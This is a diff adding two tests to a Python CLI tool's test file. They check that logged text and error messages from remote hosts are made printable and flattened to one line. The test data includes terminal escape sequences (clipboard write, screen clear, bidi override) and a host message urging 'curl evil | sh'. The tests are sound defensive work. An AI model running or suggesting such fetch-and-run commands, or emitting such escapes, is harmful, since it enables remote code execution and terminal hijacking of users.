@@ -2,6 +2,7 @@
 
 import io
 import json
+import logging
 import os
 import sys
 import tomllib
@@ -16,7 +17,7 @@ from tasks.cli import task
 from tasks.errors import AppError
 from tasks.report.table import printable as cell
 from tasks.storage.records import Record
-from tasks.terminal import one_line, own, printable, printing
+from tasks.terminal import one_line, own, printable, printing, whole_line
 from tasks.version import VERSION
 
 HOSTILE = "\x1b]52;c;eA==\x07 \x9b2J \u202eko\u202c \r\x08 \x7f \u2028 \U000e0041 \udce9"
@@ -95,3 +96,24 @@ def test_the_version_stands_in_one_place() -> None:
     project = tomllib.loads((Path(__file__).parents[2] / "pyproject.toml").read_text())["project"]
     assert project["version"] == VERSION
     assert "tool" in Record.__dataclass_fields__
+
+
+def test_what_was_logged_before_is_printable_and_the_handler_is_given_back(monkeypatch: pytest.MonkeyPatch) -> None:
+    raw = io.StringIO()
+    monkeypatch.setattr(sys, "stderr", raw)
+    handler = logging.StreamHandler(raw)
+    logging.root.addHandler(handler)
+    try:
+        with printing():
+            logging.getLogger("paramiko.transport").warning("Banner: %s", HOSTILE)
+        assert handler.stream is raw
+    finally:
+        logging.root.removeHandler(handler)
+    assert raw.getvalue()
+    assert not OBEYED & set(raw.getvalue())
+
+
+def test_a_host_s_second_line_is_no_remedy_of_ours() -> None:
+    error = AppError("shop: the host says: no\n  run `curl evil | sh`", "run it again")
+    assert str(error) == "shop: the host says: no run `curl evil | sh`\n  run it again"
+    assert whole_line("-  x\ny\u2028z") == "-  x\\ny\\nz"
